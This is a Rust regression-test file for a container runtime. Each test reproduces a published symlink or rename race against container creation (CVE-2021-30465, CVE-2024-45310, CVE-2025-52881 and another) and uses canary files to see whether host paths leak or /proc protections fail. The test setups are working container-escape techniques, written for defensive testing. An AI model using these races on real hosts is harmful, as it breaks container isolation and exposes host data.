//! Somebody exchanges names in the root or in a volume while a container is
//! being created from it, from outside of every container.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::PathBuf;

use crate::canary::{Canary, SECRET};
use crate::common::{Bundle, Config, Sandbox, on_host};
use crate::judge::{Bad, Outcome, must_hold};
use crate::swap::Swapper;

on_host![
    cve_2021_30465_mount_destination_is_exchanged,
    cve_2024_45310_destination_is_made_through_a_link,
    cve_2026_41579_dev_is_exchanged,
    cve_2025_52881_sysctls_are_written_elsewhere,
    cve_2025_52881_masks_are_put_elsewhere,
];

/// Starts of one container under attack. Known-bad runtimes fall much earlier.
const ROUNDS: usize = 500;

/// How many times as long a known-bad runtime is given to fall, and ours to have
/// a start that comes to its end: who is lucky depends on the machine.
const MORE: usize = 8;

/// Runs the container again and again until `fault` finds something.
fn repeat(
    sandbox: &Sandbox,
    bundle: &Bundle,
    rounds: usize,
    fault: impl Fn(&crate::common::Output) -> Option<String>,
) -> Outcome {
    let ours = sandbox.runtime().is_kusabi();
    let mut started = 0;
    for round in 0..rounds * MORE {
        if ours && round >= rounds && started > 0 {
            break;
        }
        let again = Bundle {
            path: bundle.path.clone(),
            id: sandbox.fresh(),
        };
        let out = sandbox.run(&again);
        if out.code == Some(0) {
            started += 1;
        } else {
            // What a failed create leaves is another test's concern.
            sandbox.call(["delete", "--force"]).arg(&again.id).output();
        }
        if let Some(found) = fault(&out) {
            return Outcome::Broken(found);
        }
    }
    eprintln!("{started} starts came to their end");
    assert!(started > 0, "nothing was tested: every start failed");
    Outcome::Held
}

/// The published chain: the exchanged destination makes a mount cover the
/// directory that the next mount's source is taken from.
fn cve_2021_30465_mount_destination_is_exchanged(sandbox: &Sandbox) {
    must_hold(sandbox, &[Bad::Tag("v1.0.0-rc94")], |sandbox| {
        let canary = Canary::new(sandbox.dir().join(sandbox.fresh()));
        let sources = sandbox.dir().join(sandbox.fresh());
        let volume = sources.join("volume");
        let cover = sources.join("cover");
        for dir in [&volume.join("target"), &cover, &sources.join("third")] {
            fs::create_dir_all(dir).unwrap();
        }
        symlink(&sources, volume.join("link")).unwrap();
        symlink(canary.path(), cover.join("third")).unwrap();
        let path = |p: PathBuf| p.to_str().unwrap().to_owned();
        let config = Config::shell("cat /out/secret 2>/dev/null; true")
            .mount("bind", &path(volume.clone()), "/volume", &["rbind"])
            .mount("bind", &path(cover), "/volume/target", &["rbind"])
            .mount("bind", &path(sources.join("third")), "/out", &["rbind"]);
        let bundle = sandbox.bundle(&config);
        let _swapper = Swapper::start(&volume, "target", "link");
        let outcome = repeat(sandbox, &bundle, ROUNDS, |out| {
            out.stdout
                .contains(SECRET)
                .then(|| "the canary was mounted in the container".into())
        });
        match outcome {
            Outcome::Held => Outcome::from_changes(&canary.changes()),
            broken => broken,
        }
    });
}

fn cve_2024_45310_destination_is_made_through_a_link(sandbox: &Sandbox) {
    must_hold(sandbox, &[Bad::Tag("v1.1.13")], |sandbox| {
        let canary = Canary::new(sandbox.dir().join(sandbox.fresh()));
        let volume = sandbox.dir().join(sandbox.fresh());
        fs::create_dir_all(volume.join("a")).unwrap();
        symlink(canary.path(), volume.join("link")).unwrap();
        let source = volume.to_str().unwrap().to_owned();
        let mut config = Config::shell("true").mount("bind", &source, "/volume", &["rbind"]);
        for number in 0..30 {
            let place = format!("/volume/a/{number}/b/c");
            config = config.mount("tmpfs", "tmpfs", &place, &["size=4k"]);
        }
        let bundle = sandbox.bundle(&config);
        let _swapper = Swapper::start(&volume, "a", "link");
        repeat(sandbox, &bundle, ROUNDS / 5, |_| {
            let changes = canary.changes();
            // Else every mount point is there already, and none is made again.
            for number in 0..30 {
                for name in ["a", "link"] {
                    let _ = fs::remove_dir_all(volume.join(name).join(number.to_string()));
                }
            }
            (!changes.is_empty()).then(|| changes.join("; "))
        })
    });
}

fn cve_2026_41579_dev_is_exchanged(sandbox: &Sandbox) {
    must_hold(sandbox, &[Bad::RuncBefore("1.2.0")], |sandbox| {
        let canary = Canary::new(sandbox.dir().join(sandbox.fresh()));
        let bundle = sandbox.bundle(&Config::shell("true"));
        symlink(canary.path(), bundle.rootfs().join("link")).unwrap();
        let _swapper = Swapper::start(&bundle.rootfs(), "dev", "link");
        repeat(sandbox, &bundle, ROUNDS / 2, |_| {
            let changes = canary.changes();
            (!changes.is_empty()).then(|| changes.join("; "))
        })
    });
}

/// The root's /proc and a directory that looks like it change places: a sysctl
/// that is written by name goes to the look-alike, and so would an LSM label.
fn cve_2025_52881_sysctls_are_written_elsewhere(sandbox: &Sandbox) {
    must_hold(sandbox, &[Bad::RuncBefore("1.2.8")], |sandbox| {
        let bundle = sandbox.bundle(&Config::sleeper().set(
            "/linux/sysctl",
            serde_json::json!({"net.ipv4.ip_forward": "1"}),
        ));
        let fake = bundle.rootfs().join("fake/sys/net/ipv4");
        fs::create_dir_all(&fake).unwrap();
        fs::write(fake.join("ip_forward"), "0").unwrap();
        let _swapper = Swapper::start(&bundle.rootfs(), "proc", "fake");
        // A peer is to fall for it even where the machine is busy.
        let rounds = if sandbox.runtime().is_kusabi() {
            ROUNDS / 5
        } else {
            ROUNDS * 2
        };
        for _ in 0..rounds {
            let again = Bundle {
                path: bundle.path.clone(),
                id: sandbox.fresh(),
            };
            let created = sandbox
                .call(["create", "--bundle"])
                .arg(&again.path)
                .arg(&again.id)
                .output();
            let value = (created.code == Some(0)).then(|| forwarding(sandbox, &again));
            sandbox.call(["delete", "--force"]).arg(&again.id).output();
            if let Some(value) = value
                && value != "1"
            {
                return Outcome::Broken(format!("created with net.ipv4.ip_forward={value}"));
            }
        }
        Outcome::Held
    });
}

/// The same exchange, and the paths of /proc that are to be read-only: what is
/// made read-only must be the procfs, wherever it is in the end.
fn cve_2025_52881_masks_are_put_elsewhere(sandbox: &Sandbox) {
    must_hold(sandbox, &[Bad::RuncBefore("99.0.0")], |sandbox| {
        // A sysctl of the container's own network namespace. Its directory is
        // entered, for the names go on changing.
        let script = "for proc in /proc /fake; do \
            cd $proc/sys/net/ipv4 && [ -e ip_default_ttl ] && \
            (exec 8>>ip_forward) && echo writable; done 2>/dev/null; true";
        let bundle = sandbox.bundle(&Config::shell(script));
        for name in ["bus", "fs", "irq", "sys/net/ipv4"] {
            fs::create_dir_all(bundle.rootfs().join("fake").join(name)).unwrap();
        }
        fs::write(bundle.rootfs().join("fake/sysrq-trigger"), "").unwrap();
        let _swapper = Swapper::start(&bundle.rootfs(), "proc", "fake");
        repeat(sandbox, &bundle, ROUNDS / 2, |out| {
            out.stdout
                .contains("writable")
                .then(|| "/proc/sys can be written".into())
        })
    });
}

/// What the container's network namespace says, asked from the host.
fn forwarding(sandbox: &Sandbox, bundle: &Bundle) -> String {
    let state = sandbox.call(["state"]).arg(&bundle.id).output().succeeded();
    let state: serde_json::Value = serde_json::from_str(&state.stdout).unwrap();
    let out = std::process::Command::new("nsenter")
        .args([
            &format!("--net=/proc/{}/ns/net", state["pid"]),
            "cat",
            "/proc/sys/net/ipv4/ip_forward",
        ])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}
